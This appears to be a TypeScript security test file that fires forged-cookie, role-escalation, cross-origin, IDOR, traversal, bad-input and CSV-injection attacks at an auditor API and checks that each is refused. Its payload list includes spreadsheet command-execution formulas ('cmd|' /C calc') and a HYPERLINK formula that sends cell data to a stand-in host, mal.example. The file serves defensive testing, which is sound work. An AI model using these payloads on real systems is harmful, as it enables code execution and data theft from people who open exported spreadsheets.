import { auditorRoutes } from "@liss/audit/auditor-routes";
import { csv } from "@liss/audit/csv";
import { parse } from "csv-parse/sync";
import type { RequestHandler, Router } from "express";
import { type Attack, strangeUuid } from "../attack.ts";
import { brokenIds, foreignOrigins, forgedCookies } from "../forgeries.ts";
import type { Ground } from "../ground.ts";
import { type Answer, type Staff, withCookie } from "../people.ts";
import { refused, smugglingAttacks } from "../repelled.ts";

/** The paths that a router really serves; made from the router itself, so that a new route is attacked at once. */
function pathsOf(router: Router): string[] {
  return router.stack.flatMap(({ route, handle }) => {
    if (route) return [route.path];
    const inner = handle as unknown as Partial<Router>;
    return Array.isArray(inner.stack) ? pathsOf(inner as Router) : [];
  });
}

/** The routers with nothing behind them: only their paths are looked at. */
function auditorPaths(): string[] {
  const nothing = {} as never;
  const pass: RequestHandler = (_request, _response, next) => next();
  const identity = { requireRole: () => pass, handler: pass };
  return pathsOf(
    auditorRoutes({
      identity,
      names: nothing,
      witnesses: [],
      looks: nothing,
      completeness: nothing,
      db: nothing,
      checkpointFile: "",
      keys: [],
      origin: "",
      now: () => new Date(),
    }),
  );
}

const period = "from=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z";

/** Everything that is tried at the auditor's API. */
export function auditAttacks(ground: Ground, random: () => number): Attack[] {
  const { audit, diana, anaAtAudit, carlaAtAudit, carla, victim } = ground;
  const strange = strangeUuid(random);
  const filled = (path: string, id: string = victim.sessionId) =>
    `/api${path.replace(/:index/g, id === victim.sessionId ? "0" : id).replace(/:\w+|\{\*\w+\}|\*\w+/g, id)}`;
  const attack = (kind: Attack["kind"], name: string, tried: () => Promise<Answer>): Attack => ({
    kind,
    name,
    run: async () => refused(await tried()),
  });
  const get = (who: Staff, path: string, headers: Record<string, string | undefined> = {}) =>
    who.ask(
      "GET",
      `${path}${path.includes("?") ? "&" : "?"}${period}&size=1&first=0&end=1&table=sessions`,
      undefined,
      headers,
    );
  const paths = [...new Set(auditorPaths())];
  const perPath = paths.flatMap((path) => [
    ...forgedCookies(diana, [carla]).map(([name, cookie]) =>
      attack("broken-auth", `GET ${path} with ${name}`, () => get(withCookie(audit, cookie), filled(path))),
    ),
    attack("role-change", `GET ${path} as an executive`, () => get(anaAtAudit, filled(path))),
    attack("role-change", `GET ${path} as a supervisor`, () =>
      get(carlaAtAudit, filled(path), { "x-role": "auditor" }),
    ),
    ...foreignOrigins(audit).map((origin) =>
      attack("foreign-origin", `GET ${path} from a page of ${origin}`, () =>
        get(diana, filled(path), { origin }),
      ),
    ),
    ...["POST", "PUT", "PATCH", "DELETE"].map((method) =>
      attack("role-change", `${method} ${path}: the record is only read`, () =>
        diana.ask(method, filled(path), {}),
      ),
    ),
    ...(path.includes(":")
      ? [strange, ...brokenIds.filter((id) => id !== "0")].map((id) =>
          attack(id === strange ? "idor" : "traversal", `GET ${path} with ${id.slice(0, 30)}`, () =>
            get(diana, filled(path, id)),
          ),
        )
      : []),
  ]);
  const periods = [
    "from=x&to=y",
    "from=2027-01-01T00:00:00Z&to=2026-01-01T00:00:00Z",
    "from[]=2026-01-01T00:00:00Z&to=2027-01-01T00:00:00Z",
    "from=2026-01-01T00:00:00Z'&to=2027-01-01T00:00:00Z",
    "from=999999999999-01-01T00:00:00Z&to=999999999999-02-01T00:00:00Z",
    "first=-1&end=5",
    "first=0&end=99999999",
    "first=1e99&end=2e99",
  ];
  const strangePeriods = [
    "/report",
    "/report.csv",
    "/bundle",
    "/entries.jsonl",
    "/stretch",
    "/stretch/part",
  ].flatMap((path) =>
    periods.map((query) =>
      attack("bad-input", `GET ${path}?${query}`, () => diana.ask("GET", `/api${path}?${query}`)),
    ),
  );
  const tiles = brokenIds.map((id) =>
    attack("traversal", `GET /tile/0/${id.slice(0, 30)}`, () =>
      withCookie(audit, "").ask("GET", `/tile/0/${id}`),
    ),
  );
  return [
    ...perPath,
    ...strangePeriods,
    ...tiles,
    ...formulas(ground),
    ...smugglingAttacks(audit, "/api/me", diana.cookie),
  ];
}

/** What a spreadsheet would run. Source: OWASP, CSV injection. */
const payloads = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://mal.example?"&A1)',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  '"=1+1',
  "a\r\n=1+1",
  'a",=1+1',
  "%0A=1+1",
  ";=1+1",
];

/** Whether a program that reads tables would take this cell for a formula. */
const runs = (cell: string) => /^[\s\u00a0\ufeff]*[=+\-@＝＋－＠]/.test(cell);

function formulas(ground: Ground): Attack[] {
  const written = payloads.flatMap((payload) =>
    [0, 1, 2].map(
      (column): Attack => ({
        kind: "formula",
        name: `a table with ${JSON.stringify(payload)} in its column ${column}`,
        run: async () => {
          const cells = ["uno", "dos", "tres"];
          cells[column] = payload;
          const rows = parse(csv(["a", "b", "c"], [cells])) as string[][];
          if (rows.length !== 2 || rows.some((row) => row.length !== 3)) return "it broke out of its cell";
          return rows.flat().some(runs) ? "a spreadsheet would run it" : undefined;
        },
      }),
    ),
  );
  return [...written, throughTheRecord(ground)];
}

/** The same through the whole house: an executive writes it as a procedure's number, an auditor downloads the table. */
function throughTheRecord({ ana, diana, writes }: Ground): Attack {
  return {
    kind: "formula",
    name: "a procedure's number that is a formula, in the auditor's table of emergencies",
    run: async () => {
      const payload = "=HYPERLINK(1)";
      const sessionId = await writes("56970000188", "me está pegando ahora, tiene un cuchillo");
      const steps = [
        await ana.ask("POST", `/api/sessions/${sessionId}/claim`, {}),
        await ana.ask("POST", `/api/sessions/${sessionId}/emergency`, {
          calledService: "carabineros",
          calledAt: new Date().toISOString(),
          procedureNumber: payload,
          outcome: "police-attended",
        }),
      ];
      const failed = steps.find(({ status }) => status !== 200);
      if (failed) return `the emergency could not be written: ${failed.status} ${failed.text.slice(0, 80)}`;
      for (let patience = 0; patience < 100; patience += 1) {
        const { status, text } = await diana.ask("GET", `/api/report.csv?${period}&table=emergencies`);
        if (status !== 200) return `the table was answered ${status}`;
        if (text.includes("HYPERLINK")) {
          const rows = parse(text, { bom: true }) as string[][];
          return rows.flat().some(runs) ? "a spreadsheet would run it" : undefined;
        }
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      return "it did not reach the table, so nothing was shown";
    },
  };
}
